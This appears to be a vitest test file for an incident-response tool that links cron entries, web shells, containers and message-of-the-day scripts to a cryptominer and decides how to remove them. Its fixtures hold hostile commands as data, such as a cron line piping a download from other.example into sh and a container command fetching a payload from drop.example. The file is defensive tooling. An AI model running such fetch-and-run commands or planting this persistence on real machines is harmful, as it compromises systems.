import { describe, expect, test } from 'vitest';
import { incident, minerPath, minerProcess, trace } from '../../../tests/machine-incident.ts';
import { makeMachineCase, type OnMachine, sha256Of } from '../../../tests/make-machine-case.ts';
import type { ReachItem } from '../../model/answer.ts';
import type { Case } from '../../model/case.ts';
import { reachItems } from './items.ts';

const itemAt = (evidence: Case, place: string): ReachItem | undefined =>
  reachItems(evidence)?.find((item) => item.place === place);

/** A cron line that fetches and runs; what mines stands at `minerPath` since 03:12. */
function fetching(over: Record<string, unknown>): OnMachine {
  const entry = '*/9 * * * * curl -s http://other.example/b.sh | sh';
  return {
    in: '/etc/cron.d/b',
    kind: 'autostart',
    line: 1,
    value: {
      mechanism: 'cron',
      place: '/etc/cron.d/b',
      entry,
      starts: 'curl -s http://other.example/b.sh | sh',
      hash: sha256Of(entry),
      user: 'backup',
      modified: '2026-10-01T00:00:00.000Z',
      why: ['fetches-and-runs'],
      ...over,
    },
  } as OnMachine; // a test may change any field
}

const near = { modified: '2026-11-19T03:15:00.000Z' };
const shell = (over: Record<string, unknown>): OnMachine =>
  trace('/var/www/x.php', { form: 'web-script', size: 70, why: ['web-root', 'runs-requests'], ...over });

describe('an entry that fetches something and runs it', () => {
  test.each([
    ['the time and the account', { ...near, user: 'www-data' }],
    ['the time, as root', { ...near, user: 'root' }],
  ])('is shown to be the miner’s by %s', (_, over) => {
    const item = itemAt(incident([], [fetching(over)]), '/etc/cron.d/b');
    expect(item).toMatchObject({ proof: 'shown', removal: [{ do: 'delete-line' }] });
    expect(item?.says).toMatch(/fetches something and runs it; it came within minutes of/);
  });

  test('is shown by the account and an address that somebody new logged in from', () => {
    const login: OnMachine = {
      in: '/var/log/auth.log',
      kind: 'login-event',
      value: { log: 'syslog', outcome: 'worked', service: 'ssh', from: 'other.example', newHere: true },
    };
    const item = itemAt(incident([], [fetching({ user: 'www-data' }), login]), '/etc/cron.d/b');
    expect(item?.proof).toBe('shown');
  });

  test('is for a person to judge by one tie alone, and nobody’s by none', () => {
    expect(itemAt(incident([], [fetching(near)]), '/etc/cron.d/b')).toMatchObject({
      proof: 'likely',
      removal: [{ do: 'by-hand' }],
    });
    expect(itemAt(incident([], [fetching({})]), '/etc/cron.d/b')).toBeUndefined();
  });

  test('is no witness for itself', () => {
    const starting = fetching({ ...near, user: 'root', entry: `@reboot ${minerPath}`, programs: [minerPath] });
    const parts = [minerProcess, starting, fetching({ ...near, user: 'root' })].map((part) =>
      part === minerProcess
        ? ({ ...part, value: { ...part.value, start: '2026-11-01T00:00:00.000Z' } } as OnMachine)
        : part,
    );
    const evidence = makeMachineCase(parts, [{ detector: 'x', stage: 'active', over: [0] }]);
    const lines = reachItems(evidence)?.filter(({ place }) => place === '/etc/cron.d/b');
    expect(lines?.map(({ proof }) => proof)).toEqual(['shown']);
  });
});

describe('a web shell', () => {
  test('that came with the miner from the same account goes', () => {
    expect(itemAt(incident([], [shell({})]), '/var/www/x.php')).toMatchObject({
      proof: 'shown',
      removal: [{ do: 'delete-file', path: '/var/www/x.php' }],
    });
  });

  test.each([
    ['of another account', { owner: 'anna' }],
    ['within a long script, which may be somebody’s own', { size: 60_000 }],
  ])('%s is for a person to look at', (_, over) => {
    expect(itemAt(incident([], [shell(over)]), '/var/www/x.php')?.proof).not.toBe('shown');
  });
});

describe('where a whole tree came in the same minutes', () => {
  test('that something came with it says nothing', () => {
    const tree = Array.from({ length: 50 }, (_, i) => trace(`/srv/copy/${i}`, { why: [] }));
    expect(
      itemAt(incident([], [fetching({ ...near, user: 'root' }), ...tree]), '/etc/cron.d/b')?.proof,
    ).toBeUndefined();
    expect(itemAt(incident([], tree), '/tmp/.x/run.log')).toBeUndefined();
  });
});

describe('a claim of low confidence', () => {
  test('makes nothing the miner’s, wherever it stands', () => {
    const code: OnMachine = { in: '/tmp/.y/tool', kind: 'mining-term', value: { term: 'xmrig', category: 'miner' } };
    const of = (confidence: 'low' | 'moderate') =>
      itemAt(
        makeMachineCase([code, trace('/tmp/.y/tool')], [{ detector: 'x', stage: 'capability', over: [0], confidence }]),
        '/tmp/.y/tool',
      )?.proof;
    expect(of('low')).toBe('likely');
    expect(of('moderate')).toBe('shown');
  });
});

describe('a container that sees the disk of the machine', () => {
  const container = (over: Record<string, unknown>): OnMachine =>
    ({
      in: '/var/lib/docker/containers/5c/config.v2.json',
      kind: 'container',
      value: {
        runtime: 'docker',
        id: '5c1f0a77e9d2',
        name: 'bell',
        command: `sh -c 'curl -so /mnt${minerPath} http://drop.example/m'`,
        mounts: ['/'],
        restart: 'always',
        state: 'exited',
        why: ['sees-whole-machine'],
        ...over,
      },
    }) as OnMachine; // a test may change any field

  test('is the miner’s where its command names the miner’s file', () => {
    const item = itemAt(incident([], [container({})]), 'docker container bell');
    expect(item).toMatchObject({ proof: 'shown', removal: [{ do: 'remove-container', container: '5c1f0a77e9d2' }] });
    expect(item?.says).toContain('starts again by itself');
  });

  test('is nobody’s where it names other files, or sees none of the machine’s', () => {
    for (const over of [{ command: 'nginx -g daemon off;' }, { mounts: [] }, { mounts: ['/srv/site'] }])
      expect(itemAt(incident([], [container(over)]), 'docker container bell')).toBeUndefined();
  });
});

describe('a script that an administrator wrote and a line was added to', () => {
  const place = '/etc/update-motd.d/20-news';
  const line = `nohup ${minerPath} >/dev/null 2>&1 &`;
  const motd = (entry: string): OnMachine => ({
    in: place,
    kind: 'autostart',
    line: 9,
    value: { mechanism: 'message-of-the-day', place, entry, starts: entry, programs: [place, minerPath], why: [] },
  });
  const removal = (parts: readonly OnMachine[]) => itemAt(incident([], parts), place)?.removal;

  test('stays: the line goes', () => {
    expect(removal([motd(line), trace(place, { size: 900 })])).toEqual([{ do: 'delete-line', path: place, line }]);
  });

  test('goes with the line where it holds nothing else', () => {
    expect(removal([motd(line), trace(place, { size: line.length + 11 })])).toMatchObject([{ do: 'delete-file' }]);
  });

  test('is left to a person where the line is a part of something', () => {
    for (const entry of [`if true; then ${minerPath}; fi`, `${line}\n/opt/app/start &`])
      expect(removal([motd(entry), trace(place, { size: 900 })])).toMatchObject([{ do: 'by-hand' }]);
  });
});
